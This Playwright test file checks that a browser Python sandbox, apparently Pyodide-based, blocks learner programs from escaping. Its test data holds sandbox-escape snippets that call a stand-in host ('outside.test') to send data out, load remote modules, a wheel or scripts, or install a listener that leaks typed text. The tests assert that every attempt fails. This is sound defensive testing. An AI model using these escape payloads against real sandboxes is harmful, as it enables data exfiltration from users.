/**
 * Hostile programs in the browser, as a learner would run one opened from a
 * shared link: each tries to reach outside the sandbox worker, fails with a
 * message the output shows as text, sends nothing to another origin, and
 * leaves the next run of the seed example untouched. Run by two projects
 * (playwright.config.ts): a host that sends the Content-Security-Policy as a
 * header (the worker then has a policy of its own), and a static host with
 * only the page's `<meta>` policy (the worker has none, and only its own
 * confinement holds).
 */
import type { BrowserContext, Locator } from '@playwright/test';
import { corpusProgram as corpus } from '../tests/hostile/corpus';
import { expect, runSeed, test, type Playground } from './fixtures';

/** An origin that is not the site's: every request to it is recorded and answered, so an attack that got out would succeed. */
const OUTSIDE = 'http://outside.test';

const NO_JS = "ModuleNotFoundError: No module named 'js'";
const NO_PYODIDE_JS = "ModuleNotFoundError: No module named 'pyodide_js'";
const NO_CODE_FROM_STRINGS =
  'pyodide.ffi.JsException: EvalError: Code generation from strings disallowed for this context';

/** What each attack tries, and the last line it must end with on stderr. */
const ATTACKS: readonly { name: string; source: string; ends: string }[] = [
  { name: 'fetch through import js', source: corpus('js_fetch.py'), ends: NO_JS },
  {
    name: 'a synchronous XMLHttpRequest',
    source: `from js import XMLHttpRequest

request = XMLHttpRequest.new()
request.open("GET", "${OUTSIDE}/xhr", False)
request.send()
`,
    ends: NO_JS,
  },
  {
    name: "pyodide.http's open_url",
    source: `from pyodide.http import open_url

print(open_url("${OUTSIDE}/open_url").read())
`,
    // It imports XMLHttpRequest from js only if it can.
    ends: "NameError: name 'XMLHttpRequest' is not defined",
  },
  {
    name: 'js.eval',
    source: `import js

js.eval("fetch('${OUTSIDE}/eval')")
`,
    ends: NO_JS,
  },
  { name: 'run_js', source: corpus('run_js.py'), ends: NO_JS },
  {
    name: 'Function from any JavaScript object',
    source: `from pyodide.ffi import to_js

steal = to_js({}).constructor.constructor("return fetch('${OUTSIDE}/function')")
steal()
`,
    ends: NO_CODE_FROM_STRINGS,
  },
  {
    name: 'a dynamic import() of a remote module',
    source: `from pyodide.ffi import to_js

load = to_js({}).constructor.constructor("return import('${OUTSIDE}/evil.mjs')")
load()
`,
    ends: NO_CODE_FROM_STRINGS,
  },
  {
    name: 'the runtime sink to Function',
    source: corpus('sink_constructor.py'),
    ends: NO_CODE_FROM_STRINGS,
  },
  {
    name: 'loadPackage from a URL',
    source: `import pyodide_js

pyodide_js.loadPackage("${OUTSIDE}/evil-1.0-py3-none-any.whl")
`,
    ends: NO_PYODIDE_JS,
  },
  {
    name: '__import__ of pyodide_js',
    source: corpus('dunder_import_pyodide_js.py'),
    ends: NO_PYODIDE_JS,
  },
  {
    name: 'a nested worker',
    source: `from js import Worker

Worker.new("${OUTSIDE}/worker.js")
`,
    ends: NO_JS,
  },
  {
    name: 'importScripts',
    source: `from js import importScripts

importScripts("${OUTSIDE}/script.js")
`,
    ends: NO_JS,
  },
  {
    name: 'listing IndexedDB',
    source: `import js

print(js.indexedDB.databases())
`,
    ends: NO_JS,
  },
  {
    name: 'listing Cache Storage',
    source: `import js

print(js.caches.keys())
`,
    ends: NO_JS,
  },
  {
    name: 'posting a message to the page',
    source: `import js

js.postMessage({"type": "done", "runId": 1, "summary": {}})
`,
    ends: NO_JS,
  },
];

/**
 * Looks at every object Python can find (the garbage collector's, and what
 * each refers to) for a JavaScript object that leads to one of the worker's
 * capabilities. A second line in Python cannot close every path to
 * JavaScript; this shows that none of them leads anywhere.
 */
const SEARCH_EVERY_OBJECT = `import gc
from pyodide.ffi import JsProxy

WANTED = "fetch XMLHttpRequest WebSocket importScripts Worker indexedDB caches navigator"
WANTED += " postMessage addEventListener onmessage setTimeout setInterval eval close"
found = set()
objects = [o for obj in gc.get_objects() for o in (obj, *gc.get_referents(obj))]
proxies = {id(o): o for o in objects if isinstance(o, JsProxy)}
for proxy in proxies.values():
    for start in (proxy, getattr(proxy, "constructor", None)):
        found.update(n for n in WANTED.split() if getattr(start, n, None) is not None)
print(f"JavaScript objects found: {len(proxies) > 0}")
print(f"capabilities reached: {sorted(found) or 'none'}")
`;

/** Records every request to another origin than the site's, and answers it as a permissive server would. */
async function watchOutsideRequests(
  context: BrowserContext,
  siteOrigin: string,
): Promise<string[]> {
  const outside: string[] = [];
  context.on('request', (request) => {
    if (new URL(request.url()).origin !== siteOrigin) outside.push(request.url());
  });
  await context.route(`${OUTSIDE}/**`, (route) =>
    route.fulfill({
      status: 200,
      headers: {
        'Access-Control-Allow-Origin': '*',
        'Cross-Origin-Resource-Policy': 'cross-origin',
        'Content-Type': 'text/javascript',
      },
      body: 'export default 1;',
    }),
  );
  return outside;
}

/** The text of the last line the run wrote to stderr. */
function lastError(playground: Playground): Locator {
  return playground.output.locator('.output-stderr .output-text').last();
}

/** Runs `source` as a learner would and waits until the run has ended. */
async function runProgram(playground: Playground, source: string): Promise<void> {
  await playground.setProgram(source);
  await playground.runButton.click();
  await expect(playground.status).toHaveText(/^Finished/);
}

/** What differs between the two hosts. */
export interface HostExpectations {
  /** Whether the host sends the sandbox worker's script with the policy as a header. */
  readonly workerPolicyHeader: boolean;
}

/** Generous: a run and the seed example after it, on a busy machine. */
const ATTACK_TIMEOUT = 30_000;

export function sandboxConfinementScenarios(expected: HostExpectations): void {
  test.describe('a program cannot reach outside the sandbox', () => {
    let outside: string[] = [];
    test.beforeEach(async ({ context, baseURL }) => {
      outside = await watchOutsideRequests(context, new URL(baseURL ?? '').origin);
    });
    test.afterEach(() => {
      expect(outside).toEqual([]);
    });

    test('the page carries its Content-Security-Policy, and the worker as the host allows', async ({
      page,
    }) => {
      const workerScript = page.waitForResponse(/\/assets\/sandbox\.worker-[^/]*\.js$/);
      await page.goto('./');
      const policy = await page
        .locator('meta[http-equiv="Content-Security-Policy"]')
        .getAttribute('content');
      expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
      expect(policy).toContain("connect-src 'self'");
      const header = (await workerScript).headers()['content-security-policy'];
      expect(header).toBe(expected.workerPolicyHeader ? policy : undefined);
    });

    test('each attack fails with its message, and the seed example runs after it', async ({
      playground,
    }) => {
      test.setTimeout(ATTACKS.length * ATTACK_TIMEOUT);
      for (const attack of ATTACKS) {
        await test.step(attack.name, async () => {
          await runProgram(playground, attack.source);
          await expect(playground.status).toHaveText(/^Finished with exit code 1: /);
          await expect(lastError(playground)).toHaveText(attack.ends);
          await runSeed(playground);
        });
      }
    });

    test('no JavaScript object Python can find leads to a capability', async ({ playground }) => {
      await runProgram(playground, SEARCH_EVERY_OBJECT);
      await expect(playground.outputLines).toHaveText([
        'JavaScript objects found: True',
        'capabilities reached: none',
      ]);
      await runSeed(playground);
    });

    test('no timer or callback of a program runs after its run', async ({ playground }) => {
      await runProgram(playground, corpus('webloop_between_runs.py'));
      await expect(lastError(playground)).toHaveText(
        "TypeError: 'NoneType' object is not callable",
      );
      await runProgram(
        playground,
        'from pyodide.ffi.wrappers import set_interval\n\nset_interval(lambda: print("PWNED"), 10)\n',
      );
      await expect(lastError(playground)).toHaveText(NO_JS);
      // A promise's callback would run after the run: no program can make one.
      await runProgram(
        playground,
        'from pyodide.ffi import to_js\n\nto_js([]).constructor.fromAsync(to_js([]))\n',
      );
      await expect(lastError(playground)).toHaveText('AttributeError: fromAsync');
      // A later run shows only its own output: nothing was left to print into it.
      await runSeed(playground);
      await runSeed(playground);
    });

    test("a listener a program adds never hears a later program's text", async ({ playground }) => {
      await runProgram(
        playground,
        `import js

def spy(event):
    js.fetch("${OUTSIDE}/spy?text=" + str(event.data.to_py()))

js.addEventListener("message", spy)
`,
      );
      await expect(lastError(playground)).toHaveText(NO_JS);
      // The syntax check sends the text while the learner types, the run sends it again.
      await playground.setProgram('secret = "hunter2"\nprint(secret\n');
      await expect(playground.problems).toContainText("'(' was never closed");
      await runSeed(playground);
    });
  });
}
